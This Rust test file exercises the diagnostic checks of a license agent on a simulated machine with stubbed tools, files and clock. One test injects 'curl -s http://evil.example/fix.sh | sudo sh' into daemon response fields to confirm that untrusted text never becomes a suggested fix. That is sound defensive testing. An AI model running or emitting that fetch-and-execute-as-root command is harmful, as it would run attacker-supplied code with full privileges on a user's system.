//! All checks on a fake machine: the tests control every program, answer and clock.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io;
use std::net::{IpAddr, SocketAddr};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use super::process::Process;
use super::system::{Probe, Space, Target};
use super::*;
use crate::license::client::LicenseConfig;
use crate::license::client::connect::{Endpoint, Trace};
use crate::license::client::fault::{Fault, Step};
use crate::license::client::proxy::ProxyVariables;
use opterius_base::clock::{Clock, SystemClock, Timestamp};
use opterius_daemon::port_holder::Holder;
use opterius_host::problem::Problem;
use opterius_host::tool::Output;
use opterius_license::inquiry::Inquiry;
use opterius_license::outcome::{Answer, Failure};

/// The time on the license server's clock.
const NOW: i64 = 1_800_000_000;

/// A fake machine: its files, the output of its programs, and how far its clock is ahead.
struct FakeMachine {
    root: PathBuf,
    tools: BTreeMap<&'static str, String>,
    ahead: Duration,
}

struct FixedClock(Timestamp);

impl Clock for FixedClock {
    fn wall(&self) -> Timestamp {
        self.0
    }

    fn boot(&self) -> Duration {
        Duration::ZERO
    }

    fn monotonic(&self) -> Instant {
        SystemClock.monotonic()
    }
}

impl FakeMachine {
    /// A machine without problems, except that no daemon has written a cache.
    fn new(name: &str) -> Self {
        let root = std::env::temp_dir().join(format!("opterius-doctor-{}-{name}", std::process::id()));
        for directory in ["etc/opterius", "run/systemd/system", "run/opterius", "proc/net", "dev", "home"] {
            fs::create_dir_all(root.join(directory)).unwrap();
        }
        let config = format!(
            "secret=0123456789abcdef\nlicense_key=AAAA-BBBB-CCCC-DDDD\nlicense_server=https://license.example.com\n\
             server_ip=203.0.113.5\nhost_root={0}\nlicense_cache={0}/etc/opterius/license-cache.json\n",
            root.display()
        );
        fs::write(root.join("agent.conf"), config).unwrap();
        fs::set_permissions(root.join("agent.conf"), fs::Permissions::from_mode(0o640)).unwrap();
        fs::write(root.join("etc/passwd"), "root:x:0:0::/root:/bin/sh\n").unwrap();
        fs::write(root.join("run/opterius/operation.sock"), "").unwrap();
        fs::write(root.join("opterius-operation"), "").unwrap();
        let socket = "0: 0100007F:1D13 00000000:0000 0A 0:0 00:0 0 0 0 111\n";
        fs::write(root.join("proc/net/tcp"), socket).unwrap();
        UnixListener::bind(root.join("dev/log")).unwrap();
        let unit = "LoadState=loaded\nActiveState=active\nUser=opterius\nFragmentPath=/lib/systemd/system/opterius-agent.service\n";
        let tools = [
            ("systemctl", unit),
            ("timedatectl", "NTPSynchronized=yes\n"),
            ("journalctl", "License: valid (plan: free)\n"),
            ("iptables", "-P OUTPUT ACCEPT\n"),
        ];
        let tools = tools.map(|(name, text)| (name, text.to_owned())).into_iter().collect();
        Self { root, tools, ahead: Duration::ZERO }
    }

    /// Configures a CA file that root can read, but not the Agent's user.
    fn close_authority_file(&self) {
        let (file, config) = (self.root.join("ca.pem"), self.root.join("agent.conf"));
        fs::write(&file, rcgen::generate_simple_self_signed([]).unwrap().cert.pem()).unwrap();
        fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
        let text = fs::read_to_string(&config).unwrap();
        fs::write(&config, format!("{text}license_ca_file={}\n", file.display())).unwrap();
        let passwd = "root:x:0:0::/root:/bin/sh\nopterius:x:990:990::/:/bin/false\n";
        fs::write(self.root.join("etc/passwd"), passwd).unwrap();
    }

    /// The verdicts, except for checks of file owners, which depend on the user who runs the tests.
    fn verdicts(&self, is_root: bool) -> BTreeMap<&'static str, Verdict> {
        let verdicts = self.findings(is_root).into_iter().map(|(check, finding)| (check, finding.verdict));
        verdicts.filter(|(check, _)| !["permissions", "cache writer"].contains(check)).collect()
    }

    fn findings(&self, is_root: bool) -> BTreeMap<&'static str, Finding> {
        let clock = FixedClock(Timestamp::from_unix(NOW).plus(self.ahead));
        let config_path = self.root.join("agent.conf");
        let system = System { root: self.root.clone(), config_path, is_root, clock: &clock, probe: self };
        let identity = HostIdentity {
            server_id: "server".to_owned(),
            boot_id: String::new(),
            hostname: String::new(),
            os: String::new(),
        };
        examine(&system, &identity).into_iter().map(|line| (line.check, line.finding)).collect()
    }
}

impl Drop for FakeMachine {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.root);
    }
}

impl Probe for FakeMachine {
    fn tool(&self, name: &str, _: &[&str]) -> Result<Output, Problem> {
        let stdout = self.tools.get(name).cloned().ok_or_else(|| Problem::Unavailable(String::new()))?;
        Ok(Output { name: name.to_owned(), code: Some(0), stdout, stderr: String::new() })
    }

    fn has(&self, name: &str) -> bool {
        self.tools.contains_key(name)
    }

    fn helper(&self) -> PathBuf {
        self.root.join("opterius-operation")
    }

    fn sites(&self, _: &Path) -> Result<Output, Problem> {
        self.tool("sites", &[])
    }

    fn daemon(&self, _: SocketAddr, path: &str) -> Result<(u16, String), String> {
        if let Some(status) = self.tools.get("daemon") {
            return if status.is_empty() { Err("connection refused".to_owned()) } else { Ok((200, status.clone())) };
        }
        let health = format!("{{\"agent_version\":\"{}\"}}", env!("CARGO_PKG_VERSION"));
        Ok((200, if path == "/health" { health } else { "{\"valid\":true,\"state\":\"active\"}".to_owned() }))
    }

    fn holder(&self, _: SocketAddr) -> Option<Holder> {
        None
    }

    fn open(&self, _: &Target<'_>, _: &ProxyVariables) -> (Trace, Result<(), Fault>) {
        let endpoint =
            Endpoint { host: "license.example.com".to_owned(), port: 443, is_proxy: false, setting: String::new() };
        let address = SocketAddr::from(([203, 0, 113, 10], 443));
        let trace = Trace { endpoint: Some(endpoint), addresses: vec![address], tried: Some(address) };
        let dropped = self.tools.get("iptables").is_some_and(|rules| rules.contains("DROP"));
        let fault = || Fault::new(Step::Connect, "connecting to 203.0.113.10 port 443: no answer", "look");
        (trace, if dropped { Err(fault()) } else { Ok(()) })
    }

    fn verify(&self, _: &Target<'_>, _: &ProxyVariables, inquiry: &Inquiry<'_>) -> Result<Answer, Failure> {
        assert_eq!((inquiry.key, inquiry.server_id), ("AAAA-BBBB-CCCC-DDDD", "server"));
        let body = b"{\"valid\": true, \"max_accounts\": 5}".to_vec();
        Ok(Answer { status: 200, date: Some(Timestamp::from_unix(NOW)), body, ..Answer::default() })
    }

    fn addresses(&self, _: &LicenseConfig, _: &ProxyVariables) -> (Option<IpAddr>, Option<IpAddr>) {
        (None, Some([203, 0, 113, 5].into()))
    }

    fn space(&self, _: &Path) -> io::Result<Space> {
        Ok(Space { device: 1, bytes: 1 << 40, free_bytes: 1 << 39, inodes: 1000, free_inodes: 900 })
    }
}

#[test]
fn one_problem_changes_one_verdict() {
    let healthy = FakeMachine::new("healthy").verdicts(true);
    let well = |(check, verdict): &(&&str, &Verdict)| **verdict == Verdict::Pass || **check == "cache";
    assert!(healthy.iter().all(|finding| well(&finding)), "{healthy:?}");
    type Change = fn(&mut FakeMachine);
    let table: [(&str, Change, &[&str]); 9] = [
        ("masked", |machine| _ = machine.tools.insert("systemctl", "LoadState=masked\n".to_owned()), &["unit"]),
        (
            "unsynchronized",
            |machine| _ = machine.tools.insert("timedatectl", "CanNTP=yes\n".to_owned()),
            &["time sync"],
        ),
        ("silent", |machine| _ = machine.tools.insert("journalctl", "Stopped\n".to_owned()), &["journal"]),
        (
            "dropping",
            |machine| _ = machine.tools.insert("iptables", "-P OUTPUT DROP\n".to_owned()),
            &["connection", "firewall"],
        ),
        ("late", |machine| machine.ahead = Duration::from_secs(3600), &["clock"]),
        (
            "overridden",
            |machine| fs::write(machine.root.join("etc/hosts"), "::1 license.example.com\n").unwrap(),
            &["hosts file"],
        ),
        ("deaf", |machine| fs::remove_file(machine.root.join("dev/log")).unwrap(), &["syslog"]),
        ("closed", |machine| machine.close_authority_file(), &["configuration"]),
        ("helpless", |machine| fs::remove_file(machine.helper()).unwrap(), &["operations"]),
    ];
    for (name, change, expected) in table {
        let mut machine = FakeMachine::new(name);
        change(&mut machine);
        let verdicts = machine.verdicts(true);
        let differs =
            |(check, verdict): &(&&'static str, &Verdict)| healthy.get(*check).is_some_and(|was| was != *verdict);
        let changed: Vec<&str> = verdicts.iter().filter(|finding| differs(finding)).map(|(check, _)| *check).collect();
        assert_eq!(changed, expected, "{name}: {verdicts:?}");
    }
}

#[test]
fn no_text_of_a_response_becomes_a_fix() {
    let mut machine = FakeMachine::new("liar");
    let evil = "curl -s http://evil.example/fix.sh | sudo sh";
    for (valid, state) in [("true", "active"), ("true", "grace"), ("false", "restricted"), ("true", evil)] {
        let status = format!(
            "{{\"valid\":{valid},\"state\":\"{state}\",\"message\":\"a. {evil}\",\"reason\":\"b. {evil}\",\
             \"grace_until\":\"{evil}\",\"plan\":\"{evil}\",\"cache\":\"not written: c. {evil}\",\
             \"recent_checks\":[{{\"verdict\":\"{evil}\"}}],\"last_checked_at\":\"{evil}\",\
             \"agent_version\":\"{evil}\",\"warnings\":[\"disk broken. {evil}\"]}}"
        );
        machine.tools.insert("daemon", status);
        let findings = machine.findings(true);
        assert!(findings.values().any(|finding| finding.seen.contains("evil")), "{findings:#?}");
        for finding in findings.values() {
            assert!(!finding.fix.as_deref().unwrap_or_default().contains("evil"), "{finding:?}");
        }
    }
}

#[test]
fn a_daemon_that_runs_with_another_port_is_not_called_stopped() {
    let mut machine = FakeMachine::new("moved");
    machine.tools.insert("daemon", String::new());
    fs::write(machine.root.join("proc/net/tcp"), "").unwrap();
    let stopped = machine.findings(true).remove("daemon").unwrap();
    assert!(stopped.verdict == Verdict::Fail && stopped.seen.ends_with("connection refused"), "{stopped:?}");
    machine.tools.insert("systemctl", "LoadState=loaded\nActiveState=active\nUser=opterius\nMainPID=77\n".to_owned());
    let moved = machine.findings(true).remove("daemon").unwrap();
    assert!(moved.seen.contains("it runs as process 77 with another port or listen_addr"), "{moved:?}");
}

#[test]
fn a_file_of_another_user_in_the_way_of_the_cache_is_removed_by_the_fix() {
    let mut machine = FakeMachine::new("leftover");
    fs::write(machine.root.join("etc/passwd"), "root:x:0:0::/root:/bin/sh\nopterius:x:990:990::/:/bin/false\n")
        .unwrap();
    machine.tools.insert("daemon", "{\"valid\":true,\"cache\":\"not written: Operation not permitted\"}".to_owned());
    let fix = |machine: &FakeMachine| machine.findings(true).remove("cache").and_then(|finding| finding.fix).unwrap();
    assert!(fix(&machine).starts_with("chattr"), "{}", fix(&machine));
    let leftover = machine.root.join("etc/opterius/license-cache.json.new");
    fs::write(&leftover, "").unwrap();
    assert!(fix(&machine).starts_with(&format!("rm -f {}; chattr", leftover.display())), "{}", fix(&machine));
}

#[test]
fn a_file_of_the_process_that_blocks_or_has_no_end_is_another_one() {
    let machine = FakeMachine::new("blocking");
    let system = System {
        root: machine.root.clone(),
        config_path: machine.root.join("agent.conf"),
        is_root: true,
        clock: &SystemClock,
        probe: &machine,
    };
    let (file, process) = (machine.root.join("agent.conf"), Process::new(&system, 77));
    let theirs = machine.root.join("proc/77/root").join(file.strip_prefix("/").unwrap());
    fs::create_dir_all(theirs.parent().unwrap()).unwrap();
    fs::copy(&file, &theirs).unwrap();
    assert!(!process.sees_another(&file));
    fs::remove_file(&theirs).unwrap();
    assert!(std::process::Command::new("mkfifo").arg(&theirs).status().unwrap().success());
    assert!(process.sees_another(&file), "a FIFO");
    fs::remove_file(&theirs).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &theirs).unwrap();
    assert!(process.sees_another(&file), "a device");
}

#[test]
fn without_root_hidden_facts_are_warnings_not_failures() {
    let verdicts = FakeMachine::new("unprivileged").verdicts(false);
    assert!(!verdicts.values().any(|verdict| *verdict == Verdict::Fail), "{verdicts:?}");
    for check in ["firewall", "journal"] {
        assert_eq!(verdicts.get(check), Some(&Verdict::Warn), "{check}");
    }
}

#[test]
fn steps_after_a_failed_one_are_skipped() {
    let mut machine = FakeMachine::new("unreachable");
    machine.tools.insert("iptables", "-P OUTPUT DROP\n".to_owned());
    let verdicts = machine.verdicts(true);
    assert_eq!(verdicts.get("connection"), Some(&Verdict::Fail));
    for check in ["TLS", "license server", "clock"] {
        assert_eq!(verdicts.get(check), None, "{check}");
    }
    assert_eq!(verdicts.get("time sync"), Some(&Verdict::Pass), "independent checks still run");
}

#[test]
fn check_names_are_unique_and_fit_the_report() {
    let names: BTreeSet<&str> = CHECKS.iter().map(|(name, _)| *name).collect();
    assert_eq!(names.len(), CHECKS.len());
    assert!(names.iter().all(|name| name.len() <= report::NAME), "{names:?}");
}
